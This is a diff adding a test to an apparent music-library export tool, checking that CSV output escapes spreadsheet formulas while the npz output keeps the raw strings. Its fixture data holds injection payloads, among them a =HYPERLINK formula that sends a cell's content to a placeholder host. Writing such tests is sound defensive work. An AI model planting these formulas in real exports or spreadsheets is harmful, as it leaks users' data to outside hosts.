@@ -107,3 +107,21 @@ def test_parquet_without_pyarrow_names_the_extra(embedded_db, tmp_path):
 def test_export_errors_are_one_line(embedded_db, args, message):
     out = run("export", *args, "--db", embedded_db, check=False)
     assert out.returncode == 1 and message in out.stderr and len(out.stderr.splitlines()) == 1
+
+
+def test_csv_cells_run_no_formula_in_a_spreadsheet(store_copy, tmp_path):
+    """A tag like =HYPERLINK(...) became a live formula when the CSV was opened in a spreadsheet: such text cells
+    start with an added ', negative vector components do not, and the npz keeps every string as it is."""
+    ids, _ = store_copy.vectors.matrix("descriptors")
+    tags = {"title": '=HYPERLINK("http://x.example/?"&A1,"click")', "artist": "@SUM(1+1)", "genre": "-5 dB"}
+    for column, text in tags.items():
+        store_copy.db.execute(f"UPDATE tracks SET {column} = ? WHERE id = ?", [text, ids[0]])
+    store_copy.db.conn.commit()
+    export_space(store_copy, "descriptors", tmp_path / "d.csv")
+    export_space(store_copy, "descriptors", tmp_path / "d.npz")
+    with open(tmp_path / "d.csv", newline="", encoding="utf-8") as f:
+        rows = {r["track_id"]: r for r in csv.DictReader(f)}
+    assert {c: rows[ids[0]][c] for c in tags} == {c: "'" + t for c, t in tags.items()}
+    assert any(float(v) < 0 for r in rows.values() for k, v in r.items() if k.startswith("v"))
+    data = np.load(tmp_path / "d.npz")
+    assert {c: str(data[c][0]) for c in tags} == tags
